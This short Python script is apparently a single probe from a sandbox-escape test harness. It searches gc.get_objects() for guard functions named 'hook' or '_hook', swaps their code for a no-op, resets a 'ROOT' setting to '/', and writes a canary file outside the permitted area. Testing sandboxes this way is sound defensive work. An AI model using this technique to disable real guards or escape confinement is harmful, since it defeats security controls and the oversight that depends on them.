"""hook: find the guard through gc.get_objects and neuter it, then write outside."""

import gc
import os

from attacklib import *


def go():
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") in ("_hook", "hook"):
            try:
                obj.__code__ = (lambda e, a: None).__code__
            except Exception:
                pass
        if isinstance(obj, dict) and "ROOT" in obj and "_hook" in obj:
            obj["ROOT"] = "/"
    open(os.path.join(CANARY, "hook2.txt"), "w").write("x")


attempt("gc hook disable", go)
